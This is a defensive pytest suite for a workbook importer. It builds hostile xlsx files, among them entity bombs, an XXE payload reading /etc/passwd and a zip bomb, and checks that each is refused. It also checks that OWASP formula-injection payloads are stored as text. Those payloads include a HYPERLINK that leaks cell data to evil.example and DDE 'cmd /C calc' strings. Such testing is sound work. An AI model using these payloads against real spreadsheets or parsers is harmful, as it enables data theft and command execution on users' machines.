"""Hostile and broken workbooks: more than a thousand, made here from a real export, each refused
with one clear sentence in bounded time and memory, the database left as it was; and every
OWASP formula-injection prefix written as text, never as a formula, and read back byte for byte.
"""

from __future__ import annotations

import hashlib
import io
import random
import re
import time
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select, text
from sqlalchemy.orm import Session

from r2pdesk.audit import AuditEntry
from r2pdesk.earlywarning.models import EarlyWarning, WarningResponse
from r2pdesk.errors import KnownError
from r2pdesk.exchange.plan import ImportPlan
from r2pdesk.exchange.reader import MAX_FILE_BYTES, MAX_ROWS, read_exchange
from r2pdesk.exchange.service import apply, preview
from r2pdesk.exchange.workbook import export_focal_point, export_full
from r2pdesk.institutions.models import Institution
from r2pdesk.models import Base
from r2pdesk.recommendations.models import ProgressUpdate, Recommendation
from r2pdesk.store import Store
from tests.helpers.databases import DEMO_TODAY

SECONDS_PER_FILE = 5.0
FOCAL_SHEET = "xl/worksheets/sheet2.xml"  # Recommendations: the sheets follow Instructions
HIDDEN_SHEET = "xl/worksheets/sheet4.xml"


def state(session: Session) -> str:
    """Every table's count and the audit tip."""
    counts = [
        session.scalar(select(func.count()).select_from(table)) for table in
        Base.metadata.sorted_tables
    ]
    tip = session.scalar(select(AuditEntry.hash).order_by(AuditEntry.seq.desc()).limit(1))
    return hashlib.sha256(repr((counts, tip)).encode()).hexdigest()


@pytest.fixture
def exported(demo_store: Store, tmp_path: Path) -> bytes:
    """A focal point's workbook of the demo, as bytes to break."""
    path = tmp_path / "base.xlsx"
    with demo_store.session() as session:
        leader = session.scalar(
            select(Recommendation.lead_institution_id)
            .group_by(Recommendation.lead_institution_id)
            .order_by(func.count().desc()).limit(1)
        )
        assert leader is not None
        export_focal_point(session, leader, path)
    return path.read_bytes()


# --- making hostile files -----------------------------------------------------------------------


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rezip(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def encrypted(data: bytes) -> bytes:
    """The same zip with every member marked as encrypted (general purpose flag, bit 0)."""
    marked = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = marked.find(signature)
        while start != -1:
            marked[start + offset] |= 0x1
            start = marked.find(signature, start + 4)
    return bytes(marked)


def replaced(data: bytes, name: str, content: bytes) -> bytes:
    return rezip({**members(data), name: content})


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>"
)
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def entity_bombs(data: bytes) -> Iterator[tuple[str, bytes]]:
    parts = members(data)
    for name in ("xl/workbook.xml", FOCAL_SHEET, HIDDEN_SHEET, "[Content_Types].xml",
                 "xl/styles.xml"):
        body = parts[name].split(b"?>", 1)[-1] if parts[name].startswith(b"<?xml") else parts[
            name]
        root = re.match(rb"\s*<([\w:]+)", body)
        assert root is not None
        bombed = body.replace(b">", b">&lol9;", 1) if name != FOCAL_SHEET else body.replace(
            b"<is><t>", b"<is><t>&lol9;", 1)
        laughs = LAUGHS.replace(b"lolz", root.group(1)) + bombed
        yield f"billion laughs in {name}", replaced(data, name, laughs)
        xxe = XXE.replace(b"DOCTYPE x", b"DOCTYPE " + root.group(1)) + body.replace(
            b"<is><t>", b"<is><t>&e;", 1)
        yield f"external entity in {name}", replaced(data, name, xxe)


def huge_sheets(data: bytes) -> Iterator[tuple[str, bytes]]:
    parts = members(data)
    head, _, _ = parts[FOCAL_SHEET].partition(b"<sheetData>")
    _, _, tail = parts[FOCAL_SHEET].partition(b"</sheetData>")
    rows = b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (n, n)
        for n in range(1, MAX_ROWS + 50)
    )
    yield "a sheet beyond the row limit", replaced(
        data, FOCAL_SHEET, head + b"<sheetData>" + rows + b"</sheetData>" + tail)
    sparse = b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    yield "a sheet with a row at the very bottom", replaced(
        data, FOCAL_SHEET, head + b"<sheetData>" + sparse + b"</sheetData>" + tail)
    # A member that unpacks to 80 MB of zeros from a few dozen kilobytes.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        with archive.open("xl/media/padding.bin", "w") as member:
            block = bytes(2**20)
            for _ in range(80):
                member.write(block)
    yield "a zip bomb", buffer.getvalue()


def not_workbooks(data: bytes, rng: random.Random) -> Iterator[tuple[str, bytes]]:
    yield "an empty file", b""
    yield "a text file", b"name,status\nMinistry,done\n"
    yield "a PDF", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"
    yield "a PNG", b"\x89PNG\r\n\x1a\n" + bytes(64)
    yield "an .xls (OLE) file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
    yield "an SQLite database", b"SQLite format 3\x00" + bytes(4096)
    yield "a zip of nothing", rezip({})
    yield "a zip of a text", rezip({"notes.txt": b"hello"})
    yield "encrypted members", encrypted(data)
    for n in range(20):
        yield f"random bytes {n}", rng.randbytes(rng.randrange(1, 4096))
        yield f"random bytes behind a zip header {n}", b"PK\x03\x04" + rng.randbytes(
            rng.randrange(1, 4096))


def foreign_and_tampered(data: bytes) -> Iterator[tuple[str, bytes]]:
    book = Workbook()
    book.active.append(["Name", "Status"])  # type: ignore[union-attr]
    buffer = io.BytesIO()
    book.save(buffer)
    yield "a workbook not made by r2pdesk", buffer.getvalue()
    parts = members(data)
    hidden = parts[HIDDEN_SHEET]
    yield "a hidden sheet of another format", replaced(
        data, HIDDEN_SHEET, hidden.replace(b"r2pdesk-exchange/1", b"something-else/9"))
    yield "a hidden sheet of an unknown kind", replaced(
        data, HIDDEN_SHEET, hidden.replace(b"focal_point", b"everything"))
    yield "a hidden sheet with a broken base", replaced(
        data, HIDDEN_SHEET, hidden.replace(b'{"', b'{{"', 1))
    yield "a hidden sheet renamed", replaced(
        data, "xl/workbook.xml", parts["xl/workbook.xml"].replace(b'name="_r2pdesk"',
                                                                  b'name="Other"'))


def zip_surgery(data: bytes, rng: random.Random) -> Iterator[tuple[str, bytes]]:
    parts = members(data)
    names = sorted(parts)
    for name in names:
        yield f"without {name}", rezip({k: v for k, v in parts.items() if k != name})
        yield f"{name} emptied", replaced(data, name, b"")
        yield f"{name} cut in half", replaced(data, name, parts[name][: len(parts[name]) // 2])
        yield f"{name} as random bytes", replaced(data, name, rng.randbytes(200))
        yield f"{name} as a number", replaced(data, name, b"<?xml version='1.0'?><x>1</x>")
    for n in range(60):
        name = rng.choice(names)
        body = bytearray(parts[name])
        for _ in range(rng.randint(1, 6)):
            if body:
                body[rng.randrange(len(body))] = rng.randrange(256)
        yield f"{name} scrambled ({n})", replaced(data, name, bytes(body))


def hostile(data: bytes, rng: random.Random) -> Iterator[tuple[str, str, bytes]]:
    """(group, what, bytes) of every file tried; group "tolerant" may read fine unchanged."""
    for n in range(360):
        cut = rng.randrange(len(data)) if n > 3 else (0, 1, len(data) - 22, len(data) - 1)[n]
        yield "refuse", f"cut at byte {cut}", data[:cut]
    for n in range(480):
        flipped = bytearray(data)
        for _ in range(rng.randint(1, 8)):
            flipped[rng.randrange(len(flipped))] ^= 1 << rng.randrange(8)
        yield "tolerant", f"bits flipped ({n})", bytes(flipped)
    for what, content in zip_surgery(data, rng):
        yield "tolerant", what, content
    for group in (entity_bombs(data), huge_sheets(data), not_workbooks(data, rng),
                  foreign_and_tampered(data)):
        for what, content in group:
            yield "refuse", what, content


# --- trying them --------------------------------------------------------------------------------


def attempt(store: Store, path: Path) -> tuple[str, object]:
    """Import as the CLI does: preview and apply in one transaction."""
    try:
        with store.session() as session:
            plan = preview(session, path, today=DEMO_TODAY)
            apply(session, plan)
    except KnownError as exc:
        return "refused", str(exc)
    return "read", plan


def test_a_thousand_hostile_files_are_refused_cleanly(
    demo_store: Store, exported: bytes, tmp_path: Path
) -> None:
    rng = random.Random(20261121)
    with demo_store.reader() as session:
        before = state(session)
    tried = refused = 0
    slowest = 0.0
    started = time.perf_counter()
    for number, (group, what, content) in enumerate(hostile(exported, rng)):
        path = tmp_path / f"hostile-{number}.xlsx"
        path.write_bytes(content)
        clock = time.perf_counter()
        outcome, result = attempt(demo_store, path)
        elapsed = time.perf_counter() - clock
        slowest = max(slowest, elapsed)
        assert elapsed < SECONDS_PER_FILE, what
        if outcome == "refused":
            refused += 1
            message = str(result)
            assert "\n" not in message, what
            assert message.startswith(f"{path.name} was not imported: "), (what, message)
        else:
            assert group == "tolerant", (what, "was read")
            assert isinstance(result, ImportPlan)
            assert not result.changes, what  # the bytes that matter were intact
            assert not result.conflicts, what
        path.unlink()
        tried += 1
        with demo_store.reader() as session:
            assert state(session) == before, what
    assert tried >= 1000
    assert refused > 900
    assert time.perf_counter() - started < 60
    print(f"{tried} files, {refused} refused, slowest {slowest:.2f} s")


def test_bombs_are_refused_in_bounded_memory(exported: bytes, tmp_path: Path) -> None:
    bombs = [*entity_bombs(exported), *huge_sheets(exported)]
    for number, (what, content) in enumerate(bombs):
        path = tmp_path / f"bomb-{number}.xlsx"
        path.write_bytes(content)
        tracemalloc.start()
        try:
            with pytest.raises(KnownError) as refused:
                read_exchange(path)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert peak < 64 * 2**20, (what, peak)
        if "laughs" in what or "external" in what:
            assert "entity or DTD declarations" in str(refused.value), what
        elif "zip bomb" in what:
            assert "would unpack to 80 MB" in str(refused.value)
        else:
            assert "goes on past row 20,000" in str(refused.value), what


def test_a_file_too_large_is_refused_before_it_is_opened(tmp_path: Path) -> None:
    path = tmp_path / "large.xlsx"
    with path.open("wb") as handle:
        handle.write(b"PK\x03\x04")
        handle.truncate(MAX_FILE_BYTES + 1)
    with pytest.raises(KnownError, match=r"large.xlsx was not imported: it is 16 MB, and "):
        read_exchange(path)


# --- formula injection (OWASP CSV/formula injection, in xlsx) -----------------------------------

PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "=1+1_x000D_",
)


def test_formula_prefixes_are_written_as_text_and_read_back_byte_for_byte(
    demo_store: Store, tmp_path: Path
) -> None:
    with demo_store.session() as session:
        leader = session.scalar(
            select(Recommendation.lead_institution_id)
            .group_by(Recommendation.lead_institution_id)
            .order_by(func.count().desc()).limit(1)
        )
        assert leader is not None
        recs = session.scalars(select(Recommendation).where(
            Recommendation.lead_institution_id == leader).order_by(Recommendation.id)).all()
        written: dict[tuple[str, str], str] = {}
        for n, payload in enumerate(PAYLOADS):
            rec = recs[n % len(recs)]
            rec.text = payload + (f" #{n}" if n >= len(recs) else "")
            written["Recommendations", str(rec.id)] = rec.text
        for model, field, sheet in (
            (Institution, "notes", "Institutions"),
            (ProgressUpdate, "narrative", "Progress updates"),
            (EarlyWarning, "description", "Warnings"),
            (WarningResponse, "outcome", "Responses"),
        ):
            for record, payload in zip(session.scalars(select(model).order_by(model.id)),
                                       PAYLOADS, strict=False):
                setattr(record, field, payload)
                written[sheet, str(record.id)] = payload
        session.flush()
        session.execute(text("SELECT 1"))
        export_full(session, tmp_path / "full.xlsx")
        export_focal_point(session, leader, tmp_path / "fp.xlsx")
    fields = {"Recommendations": "text", "Institutions": "notes",
              "Progress updates": "narrative", "Warnings": "description", "Responses": "outcome"}
    for name in ("full.xlsx", "fp.xlsx"):
        path = tmp_path / name
        with zipfile.ZipFile(path) as archive:
            for member in archive.namelist():
                if member.startswith("xl/worksheets/"):
                    xml = archive.read(member)
                    assert b"<f>" not in xml, (name, member)
                    assert b"<f " not in xml, (name, member)
        book = read_exchange(path)
        assert not book.issues
        found = {(row.sheet.title, str(row.record_id)): row for row in book.rows}
        checked = 0
        for (sheet, record_id), payload in written.items():
            row = found.get((sheet, record_id))
            if row is None or (name == "fp.xlsx" and sheet != "Recommendations"):
                continue  # not in a focal point's workbook
            key = fields[sheet]
            assert row.values[key] == payload  # byte for byte, CR and all
            checked += 1
        assert checked >= len(PAYLOADS) if name == "full.xlsx" else checked >= 5
        plain = load_workbook(path)  # and Excel's own reading: text, not formulas
        for ws in plain.worksheets:
            for line in ws.iter_rows():
                for cell in line:
                    assert cell.data_type != "f", (name, ws.title, cell.coordinate)
        with demo_store.reader() as session:
            plan = preview(session, path, today=DEMO_TODAY)
            assert not plan.changes
            assert not plan.conflicts
            assert not plan.rejected
